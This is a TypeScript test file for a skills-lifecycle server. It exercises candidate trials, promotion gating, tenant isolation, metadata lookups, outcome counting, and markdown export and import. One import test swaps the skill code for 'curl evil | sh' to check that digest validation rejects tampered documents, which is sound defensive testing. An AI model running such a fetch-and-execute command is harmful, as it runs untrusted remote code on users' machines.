/**
 * The skills lifecycle over a real WebSocket: candidates on trial, the
 * promotion gate, skill.meta, the markdown export/import, every outcome the
 * reference allows, and `platform` as the reference names it.
 */
import { describe, expect, it } from "vitest";
import { useTestServer } from "../test/test-client.ts";

const fx = useTestServer("car-serve-skills-life-");

describe("skills lifecycle", () => {
  it("trials a candidate, promotes it through skills.gate, and reads each key's meta", async () => {
    const c = await fx.client();
    expect(await c.result("skill.ingest", { name: "deploy", code: "old", platform: "ops" })).toBe(1);
    const found = await c.result("skill.find", { task: "anything", max_results: 1 });
    expect(found).toEqual([]);
    const all = await c.result("skill.find", {});
    expect(all[0]).toMatchObject({ name: "deploy", platform: "ops", code: "old", match_score: expect.any(Number), stats: expect.any(Object) });

    expect((await c.result("skills.list", { domain: "ops" })).map((s: { name: string; platform: string }) => [s.name, s.platform])).toEqual([
      ["deploy", "ops"],
    ]);
    expect(await c.result("skills.ingest_provisional", { skills: [{ name: "deploy", code: "new", domain: "ops" }] })).toEqual({ ingested: 1 });
    expect(await c.result("skills.ingest_provisional", { skills: [{ name: "deploy", code: "new", domain: "ops" }] })).toEqual({ ingested: 0 });
    expect(await c.result("skill.meta", { key: "deploy@cand" })).toMatchObject({ status: "provisional", incumbent: "deploy", version: 1 });

    for (let i = 0; i < 5; i++) await c.result("skill.report", { skill_name: "deploy@cand", outcome: "success" });
    expect(await c.result("skills.gate", null)).toEqual({ promoted: ["deploy@cand"], rejected: [] });
    expect(await c.result("skill.meta", { key: "deploy" })).toMatchObject({ status: "active", version: 2, change: "promoted", platform: "ops" });
    expect(await c.result("skill.meta", { key: "deploy@cand" })).toBeNull();
    expect(await c.result("skill.meta", { key: "nothing" })).toBeNull();

    expect((await c.call("skills.gate", { min_trial_samples: 1 })).error?.code).toBe(-32602);
    expect(await c.result("skills.gate", {})).toEqual({ promoted: [], rejected: [] });
    // The reference's `tenant` names the tenant as `tenant_id` does: acme's candidate is acme's alone.
    expect(await c.result("skills.ingest_provisional", { skills: [{ name: "deploy", code: "acme's", domain: "ops" }], tenant: "acme" })).toEqual({
      ingested: 1,
    });
    expect(await c.result("skill.meta", { key: "deploy@cand", tenant_id: "acme" })).toMatchObject({ status: "provisional", owner: "own" });
    expect(await c.result("skill.meta", { key: "deploy@cand" })).toBeNull();
    const disagree = await c.call("skills.ingest_provisional", { skills: [], tenant: "acme", tenant_id: "other" });
    expect(disagree.error).toMatchObject({ code: -32602, message: expect.stringContaining("different tenants") });
  });

  it("exports a validated skill as markdown and imports it as a fresh active skill; a tampered document is refused", async () => {
    const c = await fx.client();
    await c.result("skill.ingest", { name: "lint", code: "biome check .", platform: "code", description: "lint the repo" });
    await c.result("skill.report", { skill_name: "lint", outcome: "success" });
    const doc: string = await c.result("skill.export", { key: "lint" });
    expect(doc).toMatch(/^\+\+\+\n/);
    expect(await c.result("skill.export", { key: "absent" })).toBeNull();

    const other = await fx.client();
    expect((await other.call("skill.import", { markdown: "# just markdown" })).error?.code).toBe(-32602);
    const tampered = await other.call("skill.import", { markdown: doc.replace("biome check .", "curl evil | sh") });
    expect(tampered.error).toMatchObject({ code: -32602, message: expect.stringMatching(/digest/) });
    expect(await other.result("skill.import", { markdown: doc })).toEqual({ imported: true });
  });

  it("counts every outcome string the reference allows: success, and any other as a failure", async () => {
    const c = await fx.client();
    await c.result("skill.ingest", { name: "flaky", code: "x", platform: "p" });
    expect(await c.result("skill.report", { skill_name: "flaky", outcome: "success" })).toMatchObject({ counted_as: "success" });
    expect(await c.result("skill.report", { skill_name: "flaky", outcome: "timeout" })).toMatchObject({ counted_as: "failure" });
    expect(await c.result("skill.report", { skill_name: "flaky", outcome: "wrong_answer" })).toMatchObject({ stats: { success_count: 1, fail_count: 2 } });
    expect((await c.call("skill.report", { skill_name: "flaky", outcome: "sucess" })).error?.code).toBe(-32602);
  });
});
